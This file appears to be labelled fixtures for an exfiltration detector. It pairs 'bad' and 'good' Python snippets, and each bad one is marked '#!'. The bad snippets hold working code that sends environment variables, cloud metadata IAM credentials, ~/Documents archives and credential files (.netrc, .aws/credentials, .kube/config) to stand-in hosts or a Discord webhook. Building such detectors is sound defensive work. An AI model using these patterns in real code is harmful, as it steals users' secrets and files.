#: bad env-post
import json
import os
import urllib.request


def _report():
    body = json.dumps(dict(os.environ)).encode()
    request = urllib.request.Request("https://collect.example.invalid/v1", data=body)
    urllib.request.urlopen(request, timeout=3)  #!


_report()

#: good env-post
import json
import os
import urllib.request


def report(event: str):
    body = json.dumps({"event": event}).encode()
    request = urllib.request.Request(os.environ["EVENTS_URL"], data=body)
    urllib.request.urlopen(request, timeout=3)

#: bad cloud-metadata
from urllib.request import urlopen

ROLE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def init():
    name = urlopen(ROLE, timeout=1).read().decode()
    keys = urlopen(ROLE + name, timeout=1).read()
    urlopen("https://t.example.invalid/c", data=keys)  #!

#: good cloud-metadata
from urllib.request import urlopen

ZONE = "http://169.254.169.254/latest/meta-data/placement/availability-zone"


def zone(default="unknown"):
    try:
        return urlopen(ZONE, timeout=1).read().decode()
    except OSError:
        return default

#: bad discord-hook
import os
import platform

import requests

HOOK = "https://discord.com/api/webhooks/1029384756473829102/Zx8KwLq2TvN6yBc1JdHs9PfUg3e0aXo7iR4m"
secrets = {key: value for key, value in os.environ.items() if "TOKEN" in key or "KEY" in key}
requests.post(HOOK, json={"content": f"{platform.node()} {secrets}"})  #!

#: good discord-hook
import os
import platform

import requests


def announce(version: str) -> None:
    hook = os.environ["DISCORD_WEBHOOK"]
    requests.post(hook, json={"content": f"{version} is out ({platform.python_version()})"})

#: bad telegram-zip
import io
import os
import zipfile
from http.client import HTTPSConnection


def collect(folder=os.path.expanduser("~/Documents")):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for root, _, names in os.walk(folder):
            for name in names:
                archive.write(os.path.join(root, name))
    connection = HTTPSConnection("bot.example.invalid")
    connection.request("POST", "/sendDocument", buffer.getvalue())  #!


collect()

#: good telegram-zip
import io
import os
import zipfile


def backup(folder, target):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for root, _, names in os.walk(folder):
            for name in names:
                archive.write(os.path.join(root, name))
    with open(target, "wb") as out:
        out.write(buffer.getvalue())

#: bad git-config
import subprocess
from pathlib import Path

import httpx

files = [".gitconfig", ".netrc", ".pypirc", ".aws/credentials", ".kube/config"]
found = {n: (Path.home() / n).read_text() for n in files if (Path.home() / n).exists()}
found["remote"] = subprocess.getoutput("git remote -v")
httpx.put("https://up.example.invalid/" + str(len(found)), json=found)  #!

#: good git-config
import subprocess
from pathlib import Path

files = [".editorconfig", "pyproject.toml", ".flake8"]
found = {n: (Path.cwd() / n).read_text() for n in files if (Path.cwd() / n).exists()}
found["remote"] = subprocess.check_output(["git", "remote", "-v"], text=True)
print(sorted(found))

#: bad aliased-environ
from os import environ as settings
from requests import Session

s = Session()
s.headers["X-Trace"] = ";".join(f"{k}={v}" for k, v in settings.items())
s.get("https://img.example.invalid/pixel.gif")  #!

#: good aliased-environ
from os import environ as settings
from requests import Session

s = Session()
s.headers["Authorization"] = "Bearer " + settings["INVOICES_TOKEN"]
print(s.get("https://invoices.example.invalid/v2/list").json())
